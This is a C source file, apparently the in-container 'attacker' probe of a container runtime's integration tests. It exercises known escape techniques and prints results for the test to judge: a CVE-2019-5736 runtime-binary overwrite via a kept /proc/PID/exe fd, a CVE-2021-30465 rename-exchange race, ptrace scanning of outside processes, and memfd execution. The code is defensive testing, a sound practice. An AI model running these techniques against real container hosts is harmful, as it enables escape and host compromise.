/* SPDX-License-Identifier: GPL-2.0-or-later
 * The attacker's program for tests/integration/attacks: runs inside a
 * container (compiled statically by the tests' fixture) and reports what it
 * got, one "KEY value..." line per finding, so that the test judges.
 *
 *   ptrace-scan ROUNDS STOPFILE
 *       until STOPFILE exists (or ROUNDS scans): for every other pid in
 *       /proc, PTRACE_SEIZE it (then detach), open its /proc/PID/exe and
 *       list /proc/PID/fd.  Prints "ATTACH PID COMM", "EXE PID COMM",
 *       "FD PID COMM TARGET" for what worked on a process whose comm is
 *       not one of the container's programs, "CONTROL-ATTACH PID" when it
 *       could attach to its own child (ptrace works at all), then
 *       "SCANS N SEEN-RUNTIME M", and waits to be killed.
 *   hold-exe PID OUTFILE
 *       CVE-2019-5736: wait until /proc/PID/exe can be opened O_PATH, keep
 *       it, wait for PID to exit, then open the kept file for writing
 *       (through /proc/self/fd) and write a marker.  Prints "OPENED path",
 *       "WRITE ok" or "WRITE-ERR errno".
 *   write-fd FD MARKER
 *       CVE-2019-5736, second half (after interp.c): reopen the inherited
 *       O_PATH fd FD for writing (retrying while ETXTBSY) and write MARKER,
 *       from a child that outlives the runtime's process waiting for us.
 *   watch-exe COMM FIFO MARKER
 *       CVE-2019-5736 against a static runtime: make FIFO, print READY,
 *       wait (bounded) for a process named COMM (the runtime's binary run
 *       by "#!/proc/self/exe --log=FIFO", blocked opening FIFO), keep its
 *       /proc/PID/exe O_PATH, let it go on (read FIFO to EOF), then as
 *       hold-exe: "OPENED target", "WRITE ok" or "WRITE-ERR errno".
 *   fds
 *       every fd open at execve: "FD N TARGET".
 *   cwd
 *       "CWD path" from getcwd, and "ROOT-INO dev:ino" of "/" and of ".."
 *       walked up 64 times.
 *   swap-loop A B ROUNDS
 *       CVE-2021-30465: renameat2(RENAME_EXCHANGE) A and B ROUNDS times.
 *   dir-write DIR NAME
 *       every way to put something in DIR, in this order, one line each,
 *       "OP ok" or "OP-ERR errno": CREATE (DIR/NAME.file, 64 KiB written),
 *       UNLINK (that file), MKDIR (DIR/NAME: a squat on the name), RENAME
 *       (DIR/NAME to DIR/NAME.old), BIND (an AF_UNIX socket at DIR/NAME,
 *       the other squat), SYMLINK (DIR/NAME.link -> /), MKFIFO
 *       (DIR/NAME.fifo), CHMOD (DIR to the mode it has).
 *   say WORD
 *       prints "SAY WORD" (what a program run by the modes below prints).
 *   exec PATH
 *       copy /proc/self/exe to PATH (mode 0755), then: "MMAP-EXEC ok" or
 *       "MMAP-EXEC-ERR errno" for a PROT_EXEC map of it (what a loader
 *       does), then execve PATH say EXEC-RAN: "SAY EXEC-RAN" from the copy,
 *       or "EXEC-ERR errno".  "COPY-ERR errno" when PATH cannot be written.
 *   memfd
 *       code written into a memfd: "MFD_EXEC fd" or "MFD_EXEC-ERR errno"
 *       (memfd_create(MFD_EXEC)); a plain memfd_create gets a copy of
 *       /proc/self/exe: "PLAIN mode=OCTAL seals=HEX", "FCHMOD ok|-ERR errno",
 *       "MMAP-EXEC ok|-ERR errno" (a JIT's double map still works), then
 *       execveat(fd, "", AT_EMPTY_PATH) and fexecve each from a child:
 *       "SAY EXECVEAT-RAN" / "EXECVEAT-ERR errno", "SAY FEXECVE-RAN" /
 *       "FEXECVE-ERR errno"; last "SYSCTL mode" (vm.memfd_noexec as the
 *       container reads it) and "SYSCTL-WRITE-ERR errno" or
 *       "SYSCTL-WRITE ok" for writing it (the value read: a write that
 *       works changes nothing, but a service that may write could lower
 *       it).
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

static int read_comm(int pid, char *buf, size_t n)
{
	char p[64];
	snprintf(p, sizeof p, "/proc/%d/comm", pid);
	int fd = open(p, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return -1;
	ssize_t k = read(fd, buf, n - 1);
	close(fd);
	if (k <= 0)
		return -1;
	buf[k] = '\0';
	buf[strcspn(buf, "\n")] = '\0';
	return 0;
}

/* programs of the container itself: attaching to them is allowed */
static int is_container_program(const char *comm)
{
	return strcmp(comm, "payload") == 0 || strcmp(comm, "probe") == 0 || strcmp(comm, "sh") == 0 ||
	       strcmp(comm, "sleep") == 0;
}

/* Let a seized tracee go: a detach needs a ptrace-stop, and a tracee that
 * exits while traced is reported to us first (its parent would wait for
 * it forever if we never reaped that report). */
static void release(int pid)
{
	int st;
	if (ptrace(PTRACE_INTERRUPT, pid, 0, 0) < 0)
		return;
	for (;;) {
		pid_t w = waitpid(pid, &st, __WALL);
		if (w < 0 || WIFEXITED(st) || WIFSIGNALED(st))
			return;
		if (WIFSTOPPED(st)) {
			/* a signal that stopped it is handed back at the detach */
			int sig = WSTOPSIG(st);
			int ev = (st >> 16) & 0xff;
			if (ptrace(PTRACE_DETACH, pid, 0, (ev == PTRACE_EVENT_STOP || sig == SIGTRAP) ? 0 : sig) == 0)
				return;
			if (errno == ESRCH)
				continue;
			return;
		}
	}
}

static void try_pid(int pid, long *seen_runtime)
{
	char comm[64];
	if (read_comm(pid, comm, sizeof comm) < 0)
		return;
	/* the container's own programs are left alone (attaching to them is
	 * allowed, and would only slow the runs down) */
	if (is_container_program(comm))
		return;
	if (strstr(comm, "isc") || strstr(comm, "runc") || strstr(comm, "crun") || strstr(comm, "memfd"))
		(*seen_runtime)++;
	if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) {
		char again[64];
		/* the comm after the attach: an execve may have finished meanwhile */
		if (read_comm(pid, again, sizeof again) == 0 && !is_container_program(again))
			printf("ATTACH %d %s\n", pid, again);
		release(pid);
	}
	char p[64];
	snprintf(p, sizeof p, "/proc/%d/exe", pid);
	int fd = open(p, O_PATH | O_CLOEXEC);
	if (fd >= 0) {
		char again[64];
		if (read_comm(pid, again, sizeof again) == 0 && !is_container_program(again))
			printf("EXE %d %s\n", pid, again);
		close(fd);
	}
	snprintf(p, sizeof p, "/proc/%d/fd", pid);
	DIR *d = opendir(p);
	if (d == NULL)
		return;
	struct dirent *de;
	while ((de = readdir(d)) != NULL) {
		if (de->d_name[0] == '.')
			continue;
		char lp[300], target[512];
		snprintf(lp, sizeof lp, "/proc/%d/fd/%s", pid, de->d_name);
		ssize_t k = readlink(lp, target, sizeof target - 1);
		if (k < 0)
			continue;
		target[k] = '\0';
		char again[64];
		if (read_comm(pid, again, sizeof again) == 0 && !is_container_program(again))
			printf("FD %d %s %s\n", pid, again, target);
	}
	closedir(d);
}

/* ptrace works here at all: attach to a child of our own */
static void control_attach(void)
{
	pid_t c = fork();
	if (c == 0) {
		pause();
		_exit(0);
	}
	if (c < 0)
		return;
	if (ptrace(PTRACE_SEIZE, c, 0, 0) == 0) {
		printf("CONTROL-ATTACH %d\n", c);
		ptrace(PTRACE_DETACH, c, 0, 0);
	} else {
		printf("CONTROL-ERR %d\n", errno);
	}
	kill(c, SIGKILL);
	waitpid(c, NULL, 0);
}

static int ptrace_scan(long rounds, const char *stop)
{
	int self = getpid();
	long n = 0, seen = 0;
	setvbuf(stdout, NULL, _IOLBF, 0);
	control_attach();
	printf("READY\n");
	for (; n < rounds && access(stop, F_OK) != 0; n++) {
		DIR *d = opendir("/proc");
		if (d == NULL)
			return 1;
		struct dirent *de;
		while ((de = readdir(d)) != NULL) {
			int pid = atoi(de->d_name);
			if (pid > 0 && pid != self)
				try_pid(pid, &seen);
		}
		closedir(d);
	}
	printf("SCANS %ld SEEN-RUNTIME %ld\n", n, seen);
	/* pid 1 stays: its exit would kill the exec that wrote the stop file */
	for (;;)
		pause();
}

/* CVE-2019-5736, the container's side that outlives the runtime's image:
 * a kept O_PATH fd of the runtime binary, reopened for writing once the
 * binary no longer runs (ETXTBSY until then). */
#define WRITE_FD_OUT "/tmp/write-fd.out"
static char last_write_report[32]; /* "WRITE-ERR errno" of write_through */

static int write_through(int fd, const char *marker, long tries)
{
	char p[64];
	snprintf(p, sizeof p, "/proc/self/fd/%d", fd);
	int last = 0;
	for (long i = 0; i < tries; i++) {
		int w = open(p, O_WRONLY | O_CLOEXEC);
		if (w >= 0) {
			ssize_t k = pwrite(w, marker, strlen(marker), 0);
			int e = errno;
			close(w);
			if (k == (ssize_t)strlen(marker)) {
				printf("WRITE ok\n");
				return 0;
			}
			snprintf(last_write_report, sizeof last_write_report, "WRITE-ERR %d", e);
			printf("%s\n", last_write_report);
			return 1;
		}
		last = errno;
		if (last != ETXTBSY)
			break;
		usleep(1000);
	}
	snprintf(last_write_report, sizeof last_write_report, "WRITE-ERR %d", last);
	printf("%s\n", last_write_report);
	return 1;
}

static int write_fd(int fd, const char *marker)
{
	setvbuf(stdout, NULL, _IOLBF, 0);
	/* the runtime's process that waits for us runs the same binary: exit,
	 * so that it can exit too, and write from a child that outlives it */
	pid_t c = fork();
	if (c != 0)
		return c < 0 ? 1 : 0;
	/* the report comes after the process that was exec'd has exited: a
	 * caller whose output is relayed (isc exec) has stopped copying by
	 * then, so it also goes to WRITE_FD_OUT, for the test to read */
	signal(SIGPIPE, SIG_IGN); /* a relay that stopped reading: the file still gets it */
	int r = write_through(fd, marker, 20000);
	FILE *f = fopen(WRITE_FD_OUT ".tmp", "we");
	if (f != NULL) {
		fprintf(f, "%s\n", r == 0 ? "WRITE ok" : last_write_report);
		if (fclose(f) == 0)
			rename(WRITE_FD_OUT ".tmp", WRITE_FD_OUT);
	}
	return r;
}

static int hold_exe(int pid, const char *marker)
{
	setvbuf(stdout, NULL, _IOLBF, 0);
	char p[64];
	snprintf(p, sizeof p, "/proc/%d/exe", pid);
	int fd = open(p, O_PATH | O_CLOEXEC);
	if (fd < 0) {
		printf("OPEN-ERR %d\n", errno);
		return 1;
	}
	char target[512];
	snprintf(p, sizeof p, "/proc/self/fd/%d", fd);
	ssize_t k = readlink(p, target, sizeof target - 1);
	target[k > 0 ? k : 0] = '\0';
	printf("OPENED %s\n", target);
	return write_through(fd, marker, 20000);
}

static int find_comm(const char *want, long rounds)
{
	for (long r = 0; r < rounds; r++) {
		DIR *d = opendir("/proc");
		if (d == NULL)
			return -1;
		struct dirent *de;
		int found = -1;
		while (found < 0 && (de = readdir(d)) != NULL) {
			int pid = atoi(de->d_name);
			char comm[64];
			if (pid > 0 && pid != getpid() && read_comm(pid, comm, sizeof comm) == 0 &&
			    strcmp(comm, want) == 0)
				found = pid;
		}
		closedir(d);
		if (found > 0)
			return found;
		usleep(1000);
	}
	return -1;
}

static int watch_exe(const char *comm, const char *fifo, const char *marker)
{
	setvbuf(stdout, NULL, _IOLBF, 0);
	if (mkfifo(fifo, 0666) < 0 && errno != EEXIST) {
		printf("FIFO-ERR %d\n", errno);
		return 1;
	}
	printf("READY\n");
	int pid = find_comm(comm, 60000); /* ~60 s */
	if (pid < 0) {
		printf("NOT-FOUND %s\n", comm);
		return 1;
	}
	char p[64];
	snprintf(p, sizeof p, "/proc/%d/exe", pid);
	int fd = open(p, O_PATH | O_CLOEXEC);
	if (fd < 0) {
		printf("OPEN-ERR %d\n", errno);
		return 1;
	}
	char target[512];
	snprintf(p, sizeof p, "/proc/self/fd/%d", fd);
	ssize_t k = readlink(p, target, sizeof target - 1);
	target[k > 0 ? k : 0] = '\0';
	printf("OPENED %s\n", target);
	/* release the runtime: it opened FIFO to log into it */
	int r = open(fifo, O_RDONLY | O_CLOEXEC);
	char buf[4096];
	while (r >= 0 && read(r, buf, sizeof buf) > 0)
		;
	if (r >= 0)
		close(r);
	return write_through(fd, marker, 20000);
}

static int list_fds(void)
{
	DIR *d = opendir("/proc/self/fd");
	if (d == NULL)
		return 1;
	int self = dirfd(d);
	struct dirent *de;
	while ((de = readdir(d)) != NULL) {
		if (de->d_name[0] == '.' || atoi(de->d_name) == self)
			continue;
		char lp[300], target[512];
		snprintf(lp, sizeof lp, "/proc/self/fd/%s", de->d_name);
		ssize_t k = readlink(lp, target, sizeof target - 1);
		target[k > 0 ? k : 0] = '\0';
		printf("FD %s %s\n", de->d_name, target);
	}
	closedir(d);
	return 0;
}

static int show_cwd(void)
{
	char buf[4096];
	if (getcwd(buf, sizeof buf))
		printf("CWD %s\n", buf);
	else
		printf("CWD-ERR %d\n", errno);
	struct stat root, up;
	if (stat("/", &root) == 0)
		printf("ROOT-INO %lu:%lu\n", (unsigned long)root.st_dev, (unsigned long)root.st_ino);
	char path[4096] = ".";
	for (int i = 0; i < 64; i++)
		strcat(path, "/..");
	if (stat(path, &up) == 0)
		printf("UP-INO %lu:%lu\n", (unsigned long)up.st_dev, (unsigned long)up.st_ino);
	return 0;
}

static int swap_loop(const char *a, const char *b, long rounds)
{
	long ok = 0;
	for (long i = 0; i < rounds; i++)
		if (syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, 2 /* RENAME_EXCHANGE */) == 0)
			ok++;
	printf("SWAPS %ld\n", ok);
	return 0;
}

#ifndef MFD_EXEC
#define MFD_EXEC 0x0010U
#endif

static int copy_self(int out)
{
	int in = open("/proc/self/exe", O_RDONLY | O_CLOEXEC);
	if (in < 0)
		return -1;
	char buf[65536];
	ssize_t n;
	while ((n = read(in, buf, sizeof buf)) > 0)
		if (write(out, buf, (size_t)n) != n) {
			close(in);
			return -1;
		}
	close(in);
	return n < 0 ? -1 : 0;
}

static void mmap_exec(int fd)
{
	void *m = mmap(NULL, 4096, PROT_READ | PROT_EXEC, MAP_PRIVATE, fd, 0);
	if (m == MAP_FAILED) {
		printf("MMAP-EXEC-ERR %d\n", errno);
	} else {
		printf("MMAP-EXEC ok\n");
		munmap(m, 4096);
	}
}

static int exec_written(const char *path)
{
	int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0755);
	if (fd < 0 || copy_self(fd) < 0 || fchmod(fd, 0755) < 0) {
		printf("COPY-ERR %d\n", errno);
		return 1;
	}
	close(fd);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd >= 0) {
		mmap_exec(fd);
		close(fd);
	}
	fflush(stdout);
	char *args[] = { (char *)path, "say", "EXEC-RAN", NULL };
	execv(path, args);
	printf("EXEC-ERR %d\n", errno);
	return 0;
}

/* In a child: run the memfd by execveat (how = 0) or fexecve (how = 1). */
static void run_memfd(int fd, int how)
{
	const char *name = how == 0 ? "EXECVEAT" : "FEXECVE";
	char ran[32];
	snprintf(ran, sizeof ran, "%s-RAN", name);
	fflush(stdout);
	pid_t pid = fork();
	if (pid == 0) {
		char *args[] = { "probe", "say", ran, NULL };
		char *env[] = { NULL };
		if (how == 0)
			syscall(SYS_execveat, fd, "", args, env, AT_EMPTY_PATH);
		else
			fexecve(fd, args, env);
		printf("%s-ERR %d\n", name, errno);
		fflush(stdout);
		_exit(0);
	}
	if (pid > 0)
		waitpid(pid, NULL, 0);
}

static int memfd_probe(void)
{
	int fd = (int)syscall(SYS_memfd_create, "probe-x", MFD_EXEC);
	if (fd < 0) {
		printf("MFD_EXEC-ERR %d\n", errno);
	} else {
		printf("MFD_EXEC %d\n", fd);
		close(fd);
	}
	fd = (int)syscall(SYS_memfd_create, "probe", 0);
	if (fd < 0) {
		printf("PLAIN-ERR %d\n", errno);
		return 1;
	}
	if (copy_self(fd) < 0) {
		printf("COPY-ERR %d\n", errno);
		return 1;
	}
	struct stat st;
	fstat(fd, &st);
	printf("PLAIN mode=%o seals=%x\n", (unsigned)(st.st_mode & 07777), (unsigned)fcntl(fd, F_GET_SEALS));
	if (fchmod(fd, 0755) < 0)
		printf("FCHMOD-ERR %d\n", errno);
	else
		printf("FCHMOD ok\n");
	mmap_exec(fd);
	run_memfd(fd, 0);
	run_memfd(fd, 1);
	close(fd);
	char v[16] = "";
	int s = open("/proc/sys/vm/memfd_noexec", O_RDONLY | O_CLOEXEC);
	ssize_t n = s < 0 ? -1 : read(s, v, sizeof v - 1);
	if (n > 0)
		v[strcspn(v, "\n")] = '\0';
	printf("SYSCTL %s\n", n > 0 ? v : "?");
	if (s >= 0)
		close(s);
	/* the value it has, so that a run outside a container changes nothing */
	s = n > 0 ? open("/proc/sys/vm/memfd_noexec", O_WRONLY | O_CLOEXEC) : -1;
	if (s < 0 || write(s, v, strlen(v)) != (ssize_t)strlen(v))
		printf("SYSCTL-WRITE-ERR %d\n", errno);
	else
		printf("SYSCTL-WRITE ok\n");
	return 0;
}

static void op_result(const char *op, int r)
{
	if (r < 0)
		printf("%s-ERR %d\n", op, errno);
	else
		printf("%s ok\n", op);
}

static int create_filled(const char *path)
{
	int fd = open(path, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0644);
	if (fd < 0)
		return -1;
	static char block[65536];
	ssize_t w = write(fd, block, sizeof block);
	int e = errno;
	close(fd);
	errno = e;
	return w == (ssize_t)sizeof block ? 0 : -1;
}

static int bind_unix(const char *path)
{
	struct sockaddr_un sa = { .sun_family = AF_UNIX };
	if (strlen(path) >= sizeof sa.sun_path) {
		errno = ENAMETOOLONG;
		return -1;
	}
	strcpy(sa.sun_path, path);
	int fd = socket(AF_UNIX, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	if (fd < 0)
		return -1;
	int r = bind(fd, (struct sockaddr *)&sa, sizeof sa);
	int e = errno;
	close(fd);
	errno = e;
	return r;
}

static int dir_write(const char *dir, const char *name)
{
	char p[4096], q[4096];
	snprintf(p, sizeof p, "%s/%s.file", dir, name);
	op_result("CREATE", create_filled(p));
	op_result("UNLINK", unlink(p));
	snprintf(p, sizeof p, "%s/%s", dir, name);
	op_result("MKDIR", mkdir(p, 0755));
	snprintf(q, sizeof q, "%s/%s.old", dir, name);
	op_result("RENAME", rename(p, q));
	snprintf(p, sizeof p, "%s/%s", dir, name);
	op_result("BIND", bind_unix(p));
	snprintf(p, sizeof p, "%s/%s.link", dir, name);
	op_result("SYMLINK", symlink("/", p));
	snprintf(p, sizeof p, "%s/%s.fifo", dir, name);
	op_result("MKFIFO", mkfifo(p, 0644));
	struct stat st;
	op_result("CHMOD", stat(dir, &st) < 0 ? -1 : chmod(dir, st.st_mode & 07777));
	return 0;
}

int main(int argc, char **argv)
{
	if (argc >= 3 && strcmp(argv[1], "say") == 0) {
		printf("SAY %s\n", argv[2]);
		return 0;
	}
	if (argc >= 3 && strcmp(argv[1], "exec") == 0)
		return exec_written(argv[2]);
	if (argc >= 2 && strcmp(argv[1], "memfd") == 0)
		return memfd_probe();
	if (argc >= 4 && strcmp(argv[1], "ptrace-scan") == 0)
		return ptrace_scan(atol(argv[2]), argv[3]);
	if (argc >= 4 && strcmp(argv[1], "hold-exe") == 0)
		return hold_exe(atoi(argv[2]), argv[3]);
	if (argc >= 4 && strcmp(argv[1], "write-fd") == 0)
		return write_fd(atoi(argv[2]), argv[3]);
	if (argc >= 5 && strcmp(argv[1], "watch-exe") == 0)
		return watch_exe(argv[2], argv[3], argv[4]);
	if (argc >= 2 && strcmp(argv[1], "fds") == 0)
		return list_fds();
	if (argc >= 2 && strcmp(argv[1], "cwd") == 0)
		return show_cwd();
	if (argc >= 5 && strcmp(argv[1], "swap-loop") == 0)
		return swap_loop(argv[2], argv[3], atol(argv[4]));
	if (argc >= 4 && strcmp(argv[1], "dir-write") == 0)
		return dir_write(argv[2], argv[3]);
	fprintf(stderr, "probe: unknown command\n");
	return 2;
}
